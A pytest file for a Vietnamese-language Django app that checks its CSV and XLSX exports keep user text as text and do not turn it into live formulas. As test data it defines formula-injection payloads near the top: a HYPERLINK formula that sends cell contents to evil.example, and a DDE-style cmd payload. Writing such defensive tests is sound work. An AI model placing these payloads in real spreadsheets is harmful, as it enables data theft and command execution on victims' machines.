"""Every spreadsheet writer outside the Excel import keeps user text as text.

The dashboard tables' CSV/XLSX, the lists' exports (people, programs, practices,
activities), the review's annex workbook and the onboarding sheet of accounts: a value
typed as `=HYPERLINK(…)` comes back out as that very text, in a text cell (XLSX) or
behind an apostrophe (CSV); the annex's own totals and ratios stay formulas.
"""

from __future__ import annotations

import csv
import io

import django_tables2 as tables
import pytest
from django.core import signing
from django.test import Client, RequestFactory
from django.urls import reverse
from openpyxl import load_workbook

from phoihop.core import spreadsheet

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
PLUS = "+84 912 345 678"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3"


def _xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text_cells(content: bytes, *texts: str) -> None:
    cells = _xlsx_cells(content)
    found = {cell.value: cell.data_type for cell in cells if isinstance(cell.value, str)}
    for text in texts:
        assert found.get(text) == "s", (text, found.get(text))


def _csv_rows(content: str | bytes) -> list[list[str]]:
    text = content.decode() if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_dataset_export_writes_text_not_formulas():
    import tablib

    data = tablib.Dataset(headers=["Tên", "Số"], title="Danh sách")
    data.append([HOSTILE, -5])
    data.append([PLUS, 3])
    xlsx = spreadsheet.dataset_export(data, "xlsx")
    assert isinstance(xlsx, bytes)
    _assert_text_cells(xlsx, HOSTILE, PLUS)
    numbers = [c.value for c in _xlsx_cells(xlsx) if isinstance(c.value, int)]
    assert numbers == [-5, 3]
    rows = _csv_rows(spreadsheet.dataset_export(data, "csv"))
    assert rows[1] == ["'" + HOSTILE, "-5"]
    assert rows[2] == ["'" + PLUS, "3"]


def test_dashboard_tables_export_text_not_formulas():
    from phoihop.dashboard import tabular

    table = tabular.DataTable(
        key="by-org",
        title="Theo tổ chức",
        columns=[tabular.Column(HOSTILE), tabular.Column("Số", tabular.NUMBER)],
        rows=[[tabular.Link(HOSTILE, "/x/"), 12], [AT, -3], [MINUS, 0]],
        note=HOSTILE,
    )
    response = tabular.xlsx_response(table)
    _assert_text_cells(response.content, HOSTILE, AT, MINUS)
    assert not [c for c in _xlsx_cells(response.content) if c.data_type == "f"]
    rows = _csv_rows(tabular.csv_response(table).content)
    assert rows[0][0] == "'" + HOSTILE
    assert [r[0] for r in rows[1:]] == ["'" + HOSTILE, "'" + AT, "'" + MINUS]
    assert [r[1] for r in rows[1:]] == ["12", "-3", "0"]


class _Names(tables.Table):
    name = tables.Column(verbose_name="Tên")
    phone = tables.Column(verbose_name="Điện thoại")


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_list_exports_write_text_not_formulas(fmt):
    """orgs.tables.export_response writes the people, programs and practices lists."""
    from phoihop.orgs.tables import export_response

    request = RequestFactory().get("/", {"export": fmt})
    table = _Names([{"name": HOSTILE, "phone": PLUS}, {"name": "Hội Nông dân", "phone": AT}])
    response = export_response(request, table, "danh-sach")
    assert response is not None
    assert response["Content-Disposition"].endswith(f'.{fmt}"')
    if fmt == "xlsx":
        _assert_text_cells(response.content, HOSTILE, PLUS, AT, "Hội Nông dân")
        assert not [c for c in _xlsx_cells(response.content) if c.data_type == "f"]
    else:
        assert response.content.startswith("\ufeff".encode())
        rows = _csv_rows(response.content)
        assert rows == [
            ["Tên", "Điện thoại"],
            ["'" + HOSTILE, "'" + PLUS],
            ["Hội Nông dân", "'" + AT],
        ]


def test_annex_keeps_user_text_as_text_and_its_own_formulas():
    from phoihop.reviews.documents.annex import build_xlsx
    from phoihop.reviews.documents.model import AnnexSheet

    sheet = AnnexSheet(
        key="orgs",
        title=HOSTILE,
        headers=(HOSTILE, "Số hoạt động", "Chỉ tiêu", "Tỷ lệ %"),
        rows=((HOSTILE, 4, 8, None), (AT, 6, 12, None)),
        total_columns=(1,),
        ratio_columns=((3, 1, 2),),
    )
    content = build_xlsx([sheet], heading=MINUS)
    _assert_text_cells(content, HOSTILE, AT, MINUS, HOSTILE.upper())
    formulas = sorted(c.value for c in _xlsx_cells(content) if c.data_type == "f")
    assert formulas == ["=ROUND(B5/C5*100,1)", "=ROUND(B6/C6*100,1)", "=SUM(B5:B6)"]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_onboarding_sheet_writes_text_not_formulas(world, fmt):
    from phoihop.orgs.views import SHEET_SALT

    client = Client()
    client.force_login(world.user("secretariat"))
    rows = [[HOSTILE, AT, PLUS, "an@example.org", "nguyen.an", "abcd-efgh-jkmn"]]
    payload = signing.dumps(rows, salt=SHEET_SALT, compress=True)
    response = client.post(reverse("orgs:people_import_sheet"), {"payload": payload, "format": fmt})
    assert response.status_code == 200
    if fmt == "xlsx":
        _assert_text_cells(response.content, HOSTILE, AT, PLUS, "abcd-efgh-jkmn")
        assert not [c for c in _xlsx_cells(response.content) if c.data_type == "f"]
    else:
        found = _csv_rows(response.content)[1]
        assert found == [
            "'" + HOSTILE,
            "'" + AT,
            "'" + PLUS,
            "an@example.org",
            "nguyen.an",
            "abcd-efgh-jkmn",
        ]
